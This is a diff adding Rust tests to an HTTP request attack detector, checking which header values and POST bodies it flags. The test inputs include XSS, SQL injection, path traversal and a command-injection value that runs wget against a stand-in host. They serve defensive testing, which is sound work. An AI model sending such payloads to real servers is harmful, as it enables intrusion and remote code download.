@@ -99,3 +99,45 @@ fn a_crowd_of_attackers_stays_inside_the_cap() {
     assert!(bench.detector.evicted() > 0);
     assert_eq!(bench.end().len(), 512, "as many as one detector may have open");
 }
+
+#[test]
+fn header_fields_carry_attacks_too() {
+    let with = |name: &str, value: &str| {
+        let mut tx = asked("/");
+        match name {
+            "user-agent" => tx.user_agent = Some(value.into()),
+            "referer" => tx.referrer = Some(value.into()),
+            "x-forwarded-for" => tx.x_forwarded_for = Some(value.into()),
+            _ => tx.odd_headers.push((name.into(), value.into())),
+        }
+        Bench::new(&META).records([request(1, 0.0, tx)]).kinds()
+    };
+    assert_eq!(with("user-agent", "<script>alert(1)</script>"), ["web_attack"]);
+    assert_eq!(with("x-forwarded-for", "1' or 1=1#"), ["web_attack"]);
+    assert_eq!(with("cookie", "SESSID=/../../../var/www/x.txt"), ["web_attack"]);
+    assert_eq!(with("soapaction", "GetDeviceSettings/`cd /tmp && wget http://a.example/x`"), ["web_attack"]);
+    assert_eq!(with("accept-encoding", "doar-e, ftw, imo, ,"), ["exploit_attempt"]);
+    assert_eq!(with("cookie", "X-BEResource=localhost~1942062522"), ["exploit_attempt"]);
+    for (name, value) in [
+        ("user-agent", "Mozilla/5.0 (Linux; U; Android 4.0; id; O'Neill \"x\")"),
+        ("referer", "http://search.example/?q=l%27or+et+l%27argent;+ls"),
+        ("cookie", "a=1; id=2; cat=/home; pref={'a':1}|{'b':2}"),
+        ("x-trace", "a|b|c;d='e'"),
+    ] {
+        assert!(with(name, value).is_empty(), "{name}: {value}");
+    }
+}
+
+#[test]
+fn what_shippers_of_logs_and_tools_of_databases_send_is_none() {
+    let post = |uri: &str, body: &str| {
+        let mut tx = asked(uri);
+        tx.method = Some("POST".into());
+        tx.request.head = body.as_bytes().to_vec();
+        Bench::new(&META).records([request(1, 0.0, tx)]).kinds()
+    };
+    let line = "{\"line\":\"GET /i?id=1 union select 1,2 HTTP/1.1\"}";
+    assert!(post("/loki/api/v1/push", line).is_empty());
+    assert_eq!(post("/i", line), ["web_attack"]);
+    assert!(post("/pma/import.php", "sql_query=SELECT+1+UNION+SELECT+2").is_empty());
+}
